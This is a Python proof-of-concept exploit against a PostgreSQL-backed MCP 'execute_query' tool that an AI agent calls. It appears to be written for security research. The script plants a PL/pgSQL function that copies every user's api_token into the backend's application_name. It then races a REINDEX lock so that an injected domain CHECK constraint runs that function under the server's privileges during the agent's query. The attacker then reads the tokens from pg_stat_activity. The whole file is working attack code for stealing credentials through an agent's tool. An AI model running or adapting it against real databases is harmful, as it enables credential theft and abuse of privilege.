"""Stealthy variant of race_domain.py: the planted domain CHECK does not raise; it copies the
api_token of every user (a table the attacker may not read; the server's SELECT-only role may)
into the server backend's application_name, which pg_stat_activity shows to every role, waits a
moment, and returns true. The agent's call succeeds as usual; the attacker reads the secrets.
Usage: exfil_domain.py [reader|postgres]"""
import asyncio
import json
import sys
import time

import asyncpg
import race_domain as rd
from common import DSN, as_role, tool
from mcpclient import connect

EXFIL = r"""
CREATE OR REPLACE FUNCTION atk.dom_exfil(int) RETURNS boolean VOLATILE LANGUAGE plpgsql AS $f$
BEGIN
  PERFORM pg_catalog.set_config('application_name',
    (SELECT pg_catalog.string_agg(u.name || ':' || u.api_token, ' ') FROM public.users u), false);
  PERFORM pg_catalog.pg_sleep(0.5);
  RETURN true;
END $f$;
GRANT EXECUTE ON FUNCTION atk.dom_exfil(int) TO PUBLIC;
"""

async def main(role: str) -> None:
    a = await asyncpg.connect(as_role("attacker")); await a.execute(rd.SETUP_ATK); await a.execute(EXFIL)
    b = await asyncpg.connect(as_role("attacker"))
    print("attacker reads users itself:", end=" ")
    try:
        await b.fetch("SELECT api_token FROM public.users")
    except asyncpg.PostgresError as e:
        print(type(e).__name__, e)
    async with connect(DSN if role == "postgres" else as_role(role)) as c:
        ok, body = await tool(c, "execute_query", sql="SELECT * FROM atk.v")
        print("baseline:", ok, json.dumps(body.get("rows", body))[:200])
        await a.execute("BEGIN; REINDEX INDEX atk.t_a")
        call = asyncio.create_task(tool(c, "execute_query", sql="SELECT * FROM atk.v2"))
        # the attacker sees the waiter in pg_locks (readable by every role)
        t0 = time.monotonic(); waiter = None
        while time.monotonic() - t0 < 10 and not waiter:
            waiter = await b.fetchval("SELECT pid FROM pg_locks WHERE relation = 'atk.t_a'::regclass AND NOT granted")
            await asyncio.sleep(0.01)
        print("attacker sees a backend waiting on atk.t_a:", waiter)
        await b.execute("ALTER DOMAIN atk.dom ADD CONSTRAINT planted CHECK (atk.dom_exfil(VALUE))")
        await a.execute("COMMIT")
        stolen = None
        while not call.done() or stolen is None:
            stolen = await b.fetchval("SELECT application_name FROM pg_stat_activity WHERE pid = $1 AND application_name LIKE '%tok-%'", waiter)
            if stolen or call.done():
                break
            await asyncio.sleep(0.02)
        ok, body = await call
        print("agent's call:", ok, json.dumps(body.get("rows", body))[:200])
        print("attacker read from pg_stat_activity:", stolen)
    await b.execute("ALTER DOMAIN atk.dom DROP CONSTRAINT IF EXISTS planted")
    for x in (a, b): await x.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader"))
